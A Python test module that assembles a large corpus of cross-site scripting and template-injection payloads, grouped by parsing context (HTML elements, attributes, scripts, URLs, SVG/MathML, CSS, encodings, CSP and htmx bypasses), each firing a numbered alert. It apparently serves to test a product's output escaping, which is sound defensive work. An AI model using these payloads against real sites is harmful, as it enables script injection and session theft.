"""Texts that would run a script wherever a page forgot the place it puts them in.

Each says ``RUN`` where the script's call stands; :func:`corpus` puts ``alert(number)`` there, so that a call that ran
tells which text it was. Written for this product after the ways HTML, CSS, URLs and templates are parsed (WHATWG HTML
§13.2, URL §4, CSP Level 3).
"""

import codecs

ELEMENT = """
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script >RUN</script >
<script/x>RUN</script>
<script type=module>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<script src="data:text/javascript,RUN"></script>
<script src=//127.0.0.1:9/x.js></script><img src=x onerror=RUN>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img/src=x/onerror=RUN>
<img src=x:x onerror\t=\tRUN>
<IMG SRC=x OnErRoR=RUN>
<img src="x` `<script>RUN</script>"` `>
<img src=x onerror=RUN//
<image src=x onerror=RUN>
<img srcset=x onerror=RUN>
<img loading=lazy src=x onerror=RUN>
<body onload=RUN>
<body onpageshow=RUN>
<iframe onload=RUN></iframe>
<iframe src="javascript:parent.RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>
<frameset onload=RUN>
<object data="javascript:RUN"></object>
<object data="data:text/html,<script>RUN</script>"></object>
<embed src="javascript:RUN">
<embed src="data:text/html,<script>RUN</script>">
<video src=x onerror=RUN></video>
<video><source onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<video poster="javascript:RUN"></video>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<button autofocus onfocus=RUN>x</button>
<div tabindex=1 autofocus onfocus=RUN>x</div>
<details open ontoggle=RUN>x</details>
<dialog open onclose=RUN><form method=dialog><button autofocus>x</button></form></dialog>
<marquee onstart=RUN>x</marquee>
<xss style="animation:a 1s" onanimationstart=RUN>x</xss>
<style>@keyframes q{}</style><b style="animation:q 1s" onanimationstart=RUN>x</b>
<b style="transition:color 1s" ontransitionend=RUN>x</b>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">
<base href="//127.0.0.1:9/"><img src=x onerror=RUN>
<link rel=stylesheet href="data:text/css,*{}" onload=RUN>
<link rel=import href="data:text/html,<script>RUN</script>">
<link rel=modulepreload href="data:text/javascript,RUN">
<form action="javascript:RUN"><input type=submit autofocus></form>
<button form=f formaction="javascript:RUN">x</button><form id=f></form>
<isindex type=image src=x onerror=RUN>
<keygen autofocus onfocus=RUN>
<portal src="javascript:RUN"></portal>
<template><script>RUN</script></template><img src=x onerror=RUN>
<slot onslotchange=RUN><img src=x onerror=RUN></slot>
<div popover id=p onbeforetoggle=RUN>x</div><button popovertarget=p autofocus>x</button>
<p onscrollend=RUN onpointerenter=RUN onmouseover=RUN>x</p>
<a href="javascript:RUN" autofocus>x</a>
"""

ATTRIBUTE = """
" onmouseover="RUN
" autofocus onfocus="RUN
' autofocus onfocus='RUN
" onload="RUN" x="
"><script>RUN</script>
'><script>RUN</script>
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
` onerror=RUN `
x onerror=RUN
x" onerror="RUN
x' onerror='RUN
" style="animation:a 1s" onanimationstart="RUN
"/><svg onload=RUN>
" hx-on:load="RUN" x="
" data-hx-on--load="RUN" hx-trigger="load" hx-get="/x
" hx-get="javascript:RUN" hx-trigger="load
" hx-vals="js:{a:RUN}" hx-get="/login" hx-trigger="load
" hx-trigger="load[RUN]" hx-get="/login
" is="x" onclick="RUN" accesskey="x
"></title><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
</noscript><script>RUN</script>
</select></option><script>RUN</script>
</template><script>RUN</script>
</iframe><script>RUN</script>
</xmp><script>RUN</script>
</plaintext><script>RUN</script>
--><script>RUN</script>
--!><script>RUN</script>
]]><script>RUN</script>
<!--><script>RUN</script>
<!-- <img src="--><img src=x onerror=RUN>">
"""

SCRIPT = """
';RUN//
";RUN//
`;RUN//
\\';RUN//
\\";RUN//
${RUN}
'-RUN-'
"-RUN-"
</script><svg/onload=RUN>
<!--<script>RUN
*/RUN/*
\\u0022;RUN//
\u2028RUN\u2028
{"constructor":{"prototype":{"x":"RUN"}}}
__proto__[innerHTML]=<img src=x onerror=RUN>
"""

TEMPLATE = """
{{7*7}}{{constructor.constructor("RUN")()}}
{{ request.session.items }}{{ RUN }}
{% load static %}{% include "RUN" %}
{{ customer.__class__.__init__.__globals__ }}{{RUN}}
${7*7}${RUN}
#{7*7}#{RUN}
<%= RUN %>
[[RUN]]
{{= RUN }}
*{RUN}
@(RUN)
%(x)s%s%n{0.__class__}RUN
<div ng-app>{{constructor.constructor('RUN')()}}</div>
<div v-html="'<img src=x onerror=RUN>'"></div>
<div x-data x-init="RUN"></div>
"""

ADDRESS = """
javascript:RUN
JaVaScRiPt:RUN
 javascript:RUN
java\tscript:RUN
java&NewLine;script:RUN
\x01javascript:RUN
javascript&colon;RUN
javascript&#58;RUN
&#106;avascript:RUN
javascript://example.com/%0aRUN
javascript:"<script>RUN</script>"
http://example.com/"onmouseover="RUN
http://example.com/'onmouseover='RUN
https://example.com/?q=<img/src=x/onerror=RUN>
https://example.com/">RUN<svg/onload=RUN>
www.example.com/"><img/src=x/onerror=RUN>
x@example.com"onfocus="RUN"autofocus="
https://user:pass@example.com/<script>RUN</script>
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5wYXJlbnQuUlVOPC9zY3JpcHQ+#RUN
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>
vbscript:RUN
blob:RUN
view-source:javascript:RUN
[x](javascript:RUN)
![x](x"onerror="RUN)
<javascript:RUN>
[x]: data:text/html,<script>RUN</script>
"""

FOREIGN = """
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"/></svg>
<svg><script>&#97;lert&#40;1&#41;;RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x to=y>
<svg><a><animate attributeName=href values="javascript:RUN"/><text x=20 y=20>x</text></a></svg>
<svg><a xlink:href="javascript:RUN"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"></svg>
<svg><image href=x onerror=RUN></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<svg><desc><p><style><!--</style><img src=x onerror=RUN>--></style></desc></svg>
<math><mtext></p><style><img src=x onerror=RUN></style></math>
<math href="javascript:RUN">x</math>
<math><maction actiontype="statusline#http://example.com" xlink:href="javascript:RUN">x</maction></math>
<math><mi//xlink:href="data:x,<script>RUN</script>">
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=RUN>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<textarea><p title="</textarea><img src=x onerror=RUN>">
<title><p title="</title><img src=x onerror=RUN>">
<xmp><p title="</xmp><img src=x onerror=RUN>">
<noembed><p title="</noembed><img src=x onerror=RUN>">
<noframes><p title="</noframes><img src=x onerror=RUN>">
<iframe><p title="</iframe><img src=x onerror=RUN>">
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=RUN>">
<table><td><svg><style><a title="</style></svg><img src=x onerror=RUN>">
<a><table><a><svg><style><img src=x onerror=RUN>
<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>RUN</h:script></x>
<?xml-stylesheet href="javascript:RUN"?>
<!DOCTYPE x [<!ENTITY e "<img src=x onerror=RUN>">]>&e;
<![CDATA[<img src=x onerror=RUN>]]>
"""

STYLE = """
<style>*{background:url("javascript:RUN")}</style><img src=x onerror=RUN>
<p style="background:url(javascript:RUN)">x</p>
<p style="width:expression(RUN)">x</p>
<p style="behavior:url(#default#time2)" onbegin=RUN>x</p>
<style>@import "javascript:RUN";</style><svg onload=RUN>
<p style="x:&quot;</style><img src=x onerror=RUN>&quot;">
red;}</style><script>RUN</script>
"""

ENCODED = """
&lt;script&gt;RUN&lt;/script&gt;
&amp;lt;img src=x onerror=RUN&amp;gt;
&#60;img src=x onerror=RUN&#62;
&#x3c;img src=x onerror=RUN&#x3e;
&LT;img src=x onerror=RUN&GT;
%3Cscript%3ERUN%3C/script%3E
%253Cimg%2520src%253Dx%2520onerror%253DRUN%253E
\\u003cimg src=x onerror=RUN\\u003e
\\x3cimg src=x onerror=RUN\\x3e
\uff1cscript\uff1eRUN\uff1c/script\uff1e
\u2039img src=x onerror=RUN\u203a
\ufe64img src=x onerror=RUN\ufe65
\u226e\u0338script>RUN</script>
<\u017fcript>RUN</\u017fcript>
<\u0131mg src=x onerror=RUN>
<img src=x onerror\u3000=RUN>
<img\u00a0src=x onerror=RUN>
<img\x0csrc=x\x0conerror=RUN>
<img\x0bsrc=x onerror=RUN>
<\u200bscript>RUN</script>
\u202e>tpircs<RUN<script>RUN</script>
\ufeff<script>RUN</script>
<img src=x onerror=&#97;lert&#40;0&#41;;RUN>
<img src=x onerror="&#x52;;RUN">
<a href="&#x6A;&#x61;&#x76;&#x61;script:RUN" autofocus>x</a>
=HYPERLINK("javascript:RUN","x")<img src=x onerror=RUN>
"""

BYPASS = """
<script src="/files/x/x.js"></script><script>RUN</script>
<script src="/brand/logo"></script><img src=x onerror=RUN>
<script nonce="">RUN</script>
<script src="/static/ui/js/htmx.min.js"></script><div hx-on:load="RUN">x</div>
<base target="'"><img src=x onerror=RUN>
<form id=x></form><input form=x name=attributes><img src=x onerror=RUN>
<a id=defaultView><a id=defaultView name=htmx href="javascript:RUN">
<img name=currentScript src=x onerror=RUN><form name=body>
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>RUN</script>
<link rel=serviceworker href="/files/x/x.js"><svg onload=RUN>
"""

GROUPS = {
    "element": ELEMENT, "attribute": ATTRIBUTE, "script": SCRIPT, "template": TEMPLATE, "address": ADDRESS,
    "foreign": FOREIGN, "style": STYLE, "encoded": ENCODED, "bypass": BYPASS,
}  # fmt: skip
# One of each way to break out, for the short form.
FEW = (
    "<img src=x onerror=RUN>", '" autofocus onfocus="RUN', "'><img src=x onerror=RUN>", "</script><script>RUN</script>",
    "</textarea><script>RUN</script>", "</title><script>RUN</script>", "javascript:RUN", "<svg onload=RUN>",
    "&lt;img src=x onerror=RUN&gt;", '" hx-on:load="RUN" x="', "';RUN//",
    '{{7*7}}{{constructor.constructor("RUN")()}}',
)  # fmt: skip


def written() -> list[str]:
    """All texts, each once, with ``RUN`` still in them."""
    found = [line for group in GROUPS.values() for line in group.strip("\n").split("\n") if line]
    # One in an encoding that old sniffers fell for (UTF-7), and one far behind what a field may hold.
    found.append("+ADw-script+AD4-RUN+ADw-/script+AD4-")
    found.append(codecs.encode("<script>", "rot13") + "<img src=x onerror=RUN>")
    found.append("A" * 60 + "<img src=x onerror=RUN>")
    return list(dict.fromkeys(found))


def corpus(few: bool = False) -> list[str]:
    """The texts, each with its own number in it: ``alert(17)``."""
    return [text.replace("RUN", f"alert({number})") for number, text in enumerate(FEW if few else written())]
